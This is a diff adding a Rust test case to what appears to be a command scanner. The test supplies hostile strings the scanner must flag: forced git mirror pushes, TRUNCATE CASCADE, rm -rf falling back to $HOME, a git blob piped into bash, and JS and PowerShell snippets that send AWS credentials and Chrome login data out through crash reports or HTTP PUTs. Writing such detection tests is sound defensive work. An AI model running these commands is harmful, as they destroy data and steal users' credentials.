@@ -2253,6 +2253,39 @@ fn tenth_round_of_variants() {
     assert_eq!(severity(notice), Some(Severity::High));
 }
 
+/// Round 11 (bench/scanner-rounds/round11), the techniques fixed at the
+/// end of the session: `git -C dir push --mirror --force`, TRUNCATE ...
+/// CASCADE, `rm -rf "${X:-$HOME}"/...`, a git ref piped into sh, crash
+/// reporters and blob PUTs as sends.
+#[test]
+fn eleventh_round_of_variants() {
+    let flag: &[(&str, &str)] = &[
+        (
+            "git -C \"$tmp\" push --force --mirror origin",
+            "data-destruction",
+        ),
+        (
+            "EXECUTE 'TRUNCATE TABLE ' || t || ' CASCADE';",
+            "data-destruction",
+        ),
+        ("rm -rf \"${TARGET_DIR:-$HOME}\"/*", "data-destruction"),
+        (
+            "git cat-file -p FETCH_HEAD:install | bash",
+            "remote-code-pipe",
+        ),
+    ];
+    let spare: &[(&str, &str)] = &[
+        ("TRUNCATE staging_rows;", "data-destruction"),
+        ("rm -rf \"${BUILD_DIR:-./build}\"", "data-destruction"),
+        ("git show HEAD:README.md | less", "remote-code-pipe"),
+    ];
+    check_variants(flag, spare);
+    let js = "const ctx = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'));\nSentry.init({ dsn, beforeSend(e) { e.extra = ctx; return e; } });\n";
+    assert!(flagged_in("scripts/t.js", js, "exfiltration"));
+    let ps = "Copy-Item \"$chrome\\Default\\Login Data\" $work\nInvoke-RestMethod -Method Put -Uri $drop -InFile $zip\n";
+    assert!(flagged_in("scripts/c.ps1", ps, "exfiltration"));
+}
+
 /// Lines of real documentation (crate READMEs, Node's changelogs, Python
 /// libraries) that were high before: none is high now, and the attack
 /// each resembles still is.
